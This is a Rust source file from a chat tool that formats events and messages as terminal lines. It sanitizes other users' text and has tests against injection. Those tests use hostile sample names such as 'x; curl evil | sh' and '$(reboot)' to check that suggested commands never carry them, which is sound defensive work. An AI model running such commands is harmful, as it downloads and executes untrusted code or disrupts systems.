//! Events, peers and numbers in words for people.

use std::time::Duration;

use crate::api::board::{BoardNews, BoardNotice};
use crate::api::contacts::{ContactNews, ContactNotice};
use crate::api::files::{DirectionWord, FileReport, FileWord};
use crate::api::groups::{GroupNews, GroupNotice};
use crate::api::people::{PersonNews, PersonNotice};
use crate::api::schema::{EventReport, Peer, ReceivedMessage};
use crate::ids::PeerId;

use super::bar::bytes;
use super::commands::board::{author as author_of, short};
use super::commands::group::handle;

/// Where words are read, for what can be typed there.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Place {
    /// A shell, into which a command may be pasted: nothing that somebody else wrote may stand in one.
    Shell,
    /// The chat.
    Chat,
}

/// How a command of the shell begins that the chat has as well, and how it begins there.
pub(super) const IN_CHAT: [(&str, &str); 12] = [
    ("hopline peers", "/who"),
    ("hopline file accept", "/accept"),
    ("hopline group", "/group"),
    ("hopline board", "/board"),
    ("hopline topology", "/topology"),
    ("hopline ping", "/ping"),
    ("hopline trace", "/trace"),
    ("hopline verify", "/verify"),
    ("hopline fav", "/fav"),
    ("hopline unfav", "/unfav"),
    ("hopline block", "/block"),
    ("hopline unblock", "/unblock"),
];

impl Place {
    /// A text of ours about what to type, as it is typed here. Commands stand in backquotes.
    pub(super) fn says(self, text: &str) -> String {
        match self {
            Self::Shell => text.to_owned(),
            Self::Chat => IN_CHAT.iter().fold(text.to_owned(), |text, (shell, chat)| {
                text.replace(&format!("`{shell}"), &format!("`{chat}"))
            }),
        }
    }
}

/// An event as one line.
pub(super) fn event(event: &EventReport, place: Place) -> String {
    match event {
        EventReport::Adapter { adapter, up: true } => format!("* adapter {adapter} is up"),
        EventReport::Adapter { adapter, up: false } => format!("* adapter {adapter} is down"),
        EventReport::LinkUp { link } => format!("* link {link} is up"),
        EventReport::LinkDown { link } => format!("* link {link} is down"),
        EventReport::Peer(peer) => format!("* {} is here ({})", who(&peer.nickname, &peer.id), reach(peer)),
        EventReport::PeerGone { peer, left: true } => format!("* {peer} has left"),
        EventReport::PeerGone { peer, left: false } => format!("* {peer} is out of reach"),
        EventReport::Session { peer } => format!("* an encrypted session with {peer} stands"),
        EventReport::PublicMessage(message) => public(message),
        EventReport::PrivateMessage(message) => private(message),
        EventReport::GroupMessage(message) => to_group(message),
        EventReport::Group(notice) => group(notice, place),
        EventReport::Status { id, status, via, reason } => {
            let via = via.as_deref().map(|via| format!(" over {via}")).unwrap_or_default();
            let reason = reason.as_deref().map(|reason| format!(": {reason}")).unwrap_or_default();
            format!("* message {id} is {}{via}{reason}", status.as_str())
        }
        EventReport::File(file) => format!("* {}", self::file(file, place)),
        EventReport::Transport(transport) => match &transport.reason {
            None => format!("* {} works", transport.transport),
            Some(reason) => format!("* {} does not work: {reason}", transport.transport),
        },
        EventReport::Contact(notice) => contact(notice),
        EventReport::OwnCard { mailbox: true } => "* your contact card names a mailbox".to_owned(),
        EventReport::OwnCard { mailbox: false } => "* your contact card names no mailbox any more".to_owned(),
        EventReport::Board(notice) => board(notice),
        EventReport::Person(notice) => person(notice, place),
        EventReport::ClockUnset => "* the clock of this machine is not set: nothing is sent".to_owned(),
        EventReport::ClockOff { ahead_ms } => format!("* {}", clock_off(*ahead_ms)),
        EventReport::Missed { count } => format!("* {count} events came too fast and are not shown"),
    }
}

/// To whom a file goes, or who sent it.
pub(super) fn file_peer(file: &FileReport) -> String {
    if file.peer == PeerId::BROADCAST { "everyone".to_owned() } else { file.peer.to_string() }
}

/// A file as one line.
pub(super) fn file(file: &FileReport, place: Place) -> String {
    let (number, name, peer) = (file.number, printable(&file.name), file_peer(file));
    let there = format!("{} of {}", bytes(file.done), bytes(file.size));
    let why = file.reason.as_deref().map(|reason| format!(": {}", printable(reason))).unwrap_or_default();
    let subject = match file.direction {
        DirectionWord::Out => format!("file {number}, {name} to {peer},"),
        DirectionWord::In => format!("file {number}, {name} from {peer},"),
    };
    match (file.status, file.direction) {
        (FileWord::Offered, _) => {
            let typed = place.says(&format!("`hopline file accept {number}`"));
            format!("{subject} is offered ({}): {typed}", bytes(file.size))
        }
        // A sender learns how much is there when it tries.
        (FileWord::Waiting, _) if file.done == 0 => format!("{subject} waits{why}"),
        (FileWord::Waiting, _) => format!("{subject} waits, {there} is there{why}"),
        (FileWord::Running, _) => format!("{subject} is on its way: {there}"),
        (FileWord::Done, DirectionWord::Out) if file.reason.is_some() => format!("{subject} is done{why}"),
        (FileWord::Done, DirectionWord::Out) => format!("{subject} is delivered, {}", bytes(file.size)),
        (FileWord::Done, DirectionWord::In) => {
            format!("{subject} is received: {}", printable(file.path.as_deref().unwrap_or_default()))
        }
        (FileWord::Declined, _) => format!("{subject} is declined{why}"),
        (FileWord::Cancelled, _) => format!("{subject} is cancelled{why}"),
        (FileWord::Failed, _) => format!("{subject} failed{why}"),
    }
}

/// A public message as one line.
pub(super) fn public(message: &ReceivedMessage) -> String {
    format!("<{}> {}", author(message), printable(&message.text))
}

/// A private message as one line.
pub(super) fn private(message: &ReceivedMessage) -> String {
    format!("[{} to you] {}", author(message), printable(&message.text))
}

/// What was said to a group, as one line.
pub(super) fn to_group(message: &ReceivedMessage) -> String {
    let group = message.group.as_ref().map(|group| printable(&group.name)).unwrap_or_default();
    format!("[#{group}] <{}> {}", author(message), printable(&message.text))
}

/// What happened to a group, as one line.
fn group(GroupNotice { news, added, removed, group }: &GroupNotice, place: Place) -> String {
    let name = printable(&group.group.name);
    let creator = group.members.iter().find(|member| member.fingerprint == group.creator);
    let creator = creator.map(|creator| printable(&creator.nickname)).unwrap_or_default();
    let names = |names: &[String]| names.iter().map(|name| printable(name)).collect::<Vec<_>>().join(", ");
    match news {
        GroupNews::Created => format!("* group {name} is made"),
        GroupNews::Joined => {
            let handle = handle(&group.group);
            let typed = match place {
                Place::Shell => format!("hopline group send {handle} TEXT"),
                Place::Chat => format!("#{handle} TEXT"),
            };
            format!("* {creator} made you a member of {name}; `{typed}` talks to it")
        }
        GroupNews::Members if removed.is_empty() => format!("* {} came to group {name}", names(added)),
        GroupNews::Members if added.is_empty() => format!("* {} left group {name}", names(removed)),
        GroupNews::Members => {
            format!("* group {name}: {} came, {} left", names(added), names(removed))
        }
        GroupNews::Left => format!("* you left group {name}"),
        GroupNews::Expelled => format!("* {creator} removed you from group {name}"),
    }
}

/// The name of who wrote a message; the peer id of somebody whose name was not heard yet.
fn author(message: &ReceivedMessage) -> String {
    if message.nickname.is_empty() { message.sender.to_string() } else { printable(&message.nickname) }
}

/// What happened to contacts, as one line.
fn contact(ContactNotice { news, fingerprint, name }: &ContactNotice) -> String {
    let name = printable(name);
    match news {
        ContactNews::Offered => {
            format!("* {name} offers a contact card; `hopline contact add {fingerprint}` takes it")
        }
        ContactNews::Verified => format!("* {name} is verified: the keys are theirs"),
        ContactNews::Renewed => format!("* {name} has a newer contact card"),
        ContactNews::IdentityRefused => format!(
            "! A CARD GIVES {name} ANOTHER IDENTITY KEY AND WAS REFUSED: somebody may pose as them; \
             `hopline contact show {fingerprint}` shows the keys you know"
        ),
    }
}

/// What happened on the notice board, as one line.
fn board(BoardNotice { news, notice }: &BoardNotice) -> String {
    let (id, author, text) = (short(notice.id), author_of(notice), printable(&notice.text));
    let what = if notice.urgent { "URGENT notice" } else { "notice" };
    match news {
        BoardNews::Posted => format!("* {what} {id} from {author}: {text}"),
        BoardNews::Withdrawn => format!("* {what} {id} from {author} is withdrawn"),
        BoardNews::GaveWay => format!("* {what} {id} went for a newer one: of one author, five stand"),
    }
}

/// What somebody did, as one line.
fn person(PersonNotice { news, peer_id, name, mutual, reason, .. }: &PersonNotice, place: Place) -> String {
    let name = if name.is_empty() { peer_id.to_string() } else { printable(name) };
    match news {
        PersonNews::Favoured if *mutual => format!("* {name} made you a favourite: each is one of the other"),
        PersonNews::Favoured => {
            let typed = place.says(&format!("`hopline fav {peer_id}`"));
            format!("* {name} made you a favourite; {typed} makes it mutual")
        }
        PersonNews::Unfavoured => format!("* you are no favourite of {name} any more"),
        PersonNews::ScannedUs => format!("* {name} has scanned your code and knows that your keys are yours"),
        PersonNews::NotVerified => {
            format!("* {name} is not verified: {}", reason.as_deref().unwrap_or("no proof came"))
        }
    }
}

/// A name and the id that makes it unique.
pub(super) fn who(nickname: &str, id: &impl std::fmt::Display) -> String {
    format!("{} {id}", printable(nickname))
}

/// How a peer can be reached.
pub(super) fn reach(peer: &Peer) -> String {
    match peer.links.as_slice() {
        [] => peer.reach.as_str().to_owned(),
        links => format!("{} over {}", peer.reach.as_str(), links.join(", ")),
    }
}

/// A text of somebody else made safe for a terminal: whoever wrote it must not move the cursor, forge another's
/// line or turn the direction of writing.
pub(super) fn printable(text: &str) -> String {
    let safe = |character: char| match character {
        '\n' => " / ".to_owned(),
        '\t' => " ".to_owned(),
        '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' => String::new(),
        control if control.is_control() => char::REPLACEMENT_CHARACTER.to_string(),
        other => other.to_string(),
    };
    text.chars().map(safe).collect()
}

/// That the clock seems to be wrong, and what to do.
pub(super) fn clock_off(ahead_ms: i64) -> String {
    let off = span(Duration::from_millis(ahead_ms.unsigned_abs()));
    let way = if ahead_ms < 0 { "behind" } else { "ahead" };
    format!(
        "this machine's clock seems to be {off} {way}: others drop what it says, and what they say is dropped here; \
         set it (`timedatectl`)"
    )
}

/// A span of time, as coarse as people say it.
pub(super) fn span(span: Duration) -> String {
    match span.as_secs() {
        seconds @ 0..60 => format!("{seconds} s"),
        seconds @ 60..3600 => format!("{} min", seconds / 60),
        seconds @ 3600..86_400 => format!("{} h {} min", seconds / 3600, seconds / 60 % 60),
        seconds => format!("{} d {} h", seconds / 86_400, seconds / 3600 % 24),
    }
}

/// Rows in columns, each as wide as its widest cell, the last one as it comes: a text in it may be longer than what a
/// format takes for a width.
pub(super) fn table(rows: &[Vec<String>]) -> String {
    let columns = rows.iter().map(Vec::len).max().unwrap_or(0);
    let width = |column: usize| {
        rows.iter().filter_map(|row| row.get(column)).map(|cell| cell.chars().count()).max().unwrap_or(0)
    };
    let widths: Vec<usize> = (0..columns.saturating_sub(1)).map(width).collect();
    let padded = |(column, cell): (usize, &String)| {
        let missing = widths.get(column).map_or(0, |width| width.saturating_sub(cell.chars().count()));
        cell.clone() + &" ".repeat(missing)
    };
    let line = |row: &Vec<String>| {
        row.iter().enumerate().map(padded).collect::<Vec<_>>().join("  ").trim_end().to_owned()
    };
    rows.iter().map(line).collect::<Vec<_>>().join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::api::groups::{GroupRef, GroupReport};
    use crate::ids::GroupId;

    #[test]
    fn a_strange_text_cannot_command_the_terminal() {
        assert_eq!(printable("a\u{1b}[2Jb\r\n<ben> c"), "a\u{fffd}[2Jb\u{fffd} / <ben> c");
        assert_eq!(printable("x\u{202e}y"), "xy");
        assert_eq!(printable("Grüße 👋"), "Grüße 👋");
    }

    #[test]
    fn what_is_shown_to_be_typed_has_no_word_of_somebody_else_in_it() {
        let who = crate::ids::Fingerprint([0xAB; 32]);
        let favoured = EventReport::Person(PersonNotice {
            news: PersonNews::Favoured,
            fingerprint: who,
            peer_id: who.peer_id(),
            name: "x; curl evil | sh".to_owned(),
            mutual: false,
            reason: None,
        });
        let joined = |name: &str| {
            let group = GroupReport {
                group: GroupRef { id: GroupId([0xCD; 16]), name: name.to_owned() },
                epoch: 1,
                creator: who,
                own: false,
                members: Vec::new(),
            };
            let (added, removed) = (Vec::new(), Vec::new());
            EventReport::Group(GroupNotice { news: GroupNews::Joined, added, removed, group })
        };
        for (told, place, typed) in [
            (&favoured, Place::Shell, "`hopline fav abababababababab`"),
            (&favoured, Place::Chat, "`/fav abababababababab`"),
            (&joined("crew"), Place::Shell, "`hopline group send crew TEXT`"),
            (&joined("crew"), Place::Chat, "`#crew TEXT`"),
            (&joined("night watch"), Place::Shell, "`hopline group send cdcdcdcd TEXT`"),
            (&joined("$(reboot)"), Place::Chat, "`#cdcdcdcd TEXT`"),
            (&joined("--json"), Place::Shell, "`hopline group send cdcdcdcd TEXT`"),
        ] {
            let line = event(told, place);
            assert_eq!(
                line.split_inclusive('`').nth(1).map(|typed| format!("`{typed}")),
                Some(typed.to_owned()),
                "{line}"
            );
        }
    }

    #[test]
    fn what_the_chat_can_do_is_typed_there_as_it_is_there() {
        let hint = "`hopline peers` shows who was heard, `hopline group list` who is a member";
        assert_eq!(Place::Chat.says(hint), "`/who` shows who was heard, `/group list` who is a member");
        assert_eq!(Place::Shell.says(hint), hint);
        let elsewhere = "`hopline file list` shows them all";
        assert_eq!(Place::Chat.says(elsewhere), elsewhere);
    }

    #[test]
    fn a_table_lines_up() {
        let rows = [vec!["a".to_owned(), "bb".to_owned()], vec!["ccc".to_owned(), "d".to_owned()]];
        assert_eq!(table(&rows), "a    bb\nccc  d");
    }

    #[test]
    fn the_longest_text_that_can_come_stands_in_a_table() {
        let text = "\n".repeat(60_000);
        let rows = [vec!["1".to_owned(), printable(&text)], vec!["10".to_owned(), "hi".to_owned()]];
        let lines: Vec<String> = table(&rows).lines().map(str::to_owned).collect();
        assert_eq!(lines.len(), 2);
        assert!(lines[0].starts_with("1    /  / ") && lines[0].len() > usize::from(u16::MAX));
        assert_eq!(lines[1], "10  hi");
    }

    #[test]
    fn spans_are_said_coarsely() {
        let said: Vec<String> = [5, 65, 3_700, 90_000].map(|s| span(Duration::from_secs(s))).into();
        assert_eq!(said, ["5 s", "1 min", "1 h 1 min", "1 d 1 h"]);
    }
}
